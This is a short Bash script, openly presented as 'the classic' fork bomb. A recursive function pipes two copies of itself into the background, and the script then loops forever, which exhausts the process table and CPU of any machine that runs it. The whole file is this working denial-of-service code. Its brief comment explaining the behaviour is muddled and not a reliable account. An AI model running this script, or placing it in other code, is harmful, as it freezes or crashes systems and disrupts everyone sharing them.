#!/bin/bash
# The classic in Bash. The first shell forks once only, before there are others, and loops: bash waits for up to half a minute
# when it cannot fork.
bomb() { bomb | bomb & }
bomb 2>/dev/null &
while :; do :; done
